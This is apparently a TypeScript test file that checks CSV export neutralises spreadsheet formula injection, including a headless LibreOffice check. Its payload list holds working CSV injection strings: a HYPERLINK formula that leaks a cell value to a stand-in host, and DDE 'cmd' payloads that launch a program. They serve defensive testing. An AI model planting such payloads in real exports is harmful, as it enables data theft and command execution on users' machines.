import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, toCsv, type ExportTable } from '../../../../src-core/brief/table-export';
import { visible } from '../../../../src-core/text/visible';

// Issue 8, "Exports": CSV neutralisation as a property over every OWASP trigger (full-width forms
// included), and then the real thing — the exported CSV opened by LibreOffice headless with formula
// evaluation switched on, converted to flat ODS, and not one cell holding a formula.

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const STARTS_FORMULA = /^[\t\r\n]|^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
const NUMBER_TEXT = /^[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?$|^[+-]?\.\d+%?$/;

const table = (cells: string[]): ExportTable => ({
  title: 'Findings',
  markingLine: 'OFFICIAL-SENSITIVE',
  filterDescription: '',
  rowCount: cells.length,
  columns: [{ key: 'note', header: 'Note' }],
  rows: cells.map((c) => [c]),
});

describe('CSV neutralisation, as a property', () => {
  it('no cell of an exported CSV starts a formula, whatever text follows a trigger (5,000 tables)', () => {
    const cell = fc
      .tuple(fc.constantFrom(...TRIGGERS, ' =', '\u00A0+', '\u3000@'), fc.string({ unit: 'grapheme', maxLength: 30 }))
      .map(([t, s]) => t + s);
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 10 }), (cells) => {
        const parsed = Papa.parse<string[]>(toCsv(table(cells)).replace(/^\uFEFF/, ''), { skipEmptyLines: false }).data;
        const written = parsed.slice(4, 4 + cells.length).map((r) => r[0] ?? '');
        written.forEach((w, i) => {
          // Either neutralised (a leading apostrophe, the text kept whole after it) or a plain number.
          // Whole as it is shown: a lone CR, like any control character, is written as "⟨U+000D⟩".
          const shown = visible(cells[i] ?? '');
          if (STARTS_FORMULA.test(w)) expect(NUMBER_TEXT.test(w), JSON.stringify(w)).toBe(true);
          else expect(w === shown || w === `'${shown}`, JSON.stringify([w, cells[i]])).toBe(true);
        });
      }),
      { numRuns: 5_000 },
    );
  });

  it.each(TRIGGERS)('neutralises %j followed by anything', (t) => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        // The text as shown (visible: a lone CR becomes "⟨U+000D⟩", which starts no formula), prefixed
        // with an apostrophe exactly when it would start one.
        const shown = visible(t + s);
        const out = neutraliseCell(t + s);
        expect(out).toBe(STARTS_FORMULA.test(shown) && !NUMBER_TEXT.test(shown) ? `'${shown}` : shown);
      }),
    );
  });
});

const LIBREOFFICE = ['/usr/bin/libreoffice', '/usr/bin/soffice'].find((p) => existsSync(p));

/** Opens a CSV in LibreOffice headless, evaluating formulas (filter token 13), and returns the flat ODS XML. */
function openInLibreOffice(csv: string, dir: string, name: string): string {
  const file = path.join(dir, `${name}.csv`);
  writeFileSync(file, csv);
  // Separator 44 (,), quote 34 ("), UTF-8 (76), from line 1, …, token 13 "evaluate formulas" = true.
  const infilter = 'CSV Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1,true';
  execFileSync(
    LIBREOFFICE as string,
    [`-env:UserInstallation=file://${dir}/profile`, '--headless', `--infilter=${infilter}`, '--convert-to', 'fods', '--outdir', dir, file],
    { stdio: 'pipe', timeout: 120_000 },
  );
  return readFileSync(path.join(dir, `${name}.fods`), 'utf8');
}

const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1,1)',
  ' =1+1',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

describe.skipIf(!LIBREOFFICE)('the exported CSV opened in LibreOffice', () => {
  it('holds no formula in any cell, though LibreOffice evaluates formulas in what it opens', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'csv-lo-'));
    // The control: the same payloads written raw do become formulas, so the check below can fail.
    const raw = `${PAYLOADS.map((p) => `"${p.replace(/"/g, '""')}"`).join('\r\n')}\r\n`;
    const control = openInLibreOffice(raw, dir, 'raw');
    expect(control.match(/table:formula="/g)?.length ?? 0).toBeGreaterThanOrEqual(3);

    const exported = openInLibreOffice(toCsv(table(PAYLOADS)), dir, 'export');
    expect(exported.match(/table:formula="/g) ?? []).toEqual([]);
    // And every payload is there as text, whole (after the apostrophe that neutralised it).
    const text = exported
      .replace(/<[^>]+>/g, '')
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&amp;/g, '&');
    for (const p of ['=1+1', '@SUM(1,1)', '\uFF1D1+1', '=HYPERLINK(', "=cmd|' /C calc'!A0"]) expect(text).toContain(p);
    expect(text).toContain('OFFICIAL-SENSITIVE');
  }, 240_000);
});
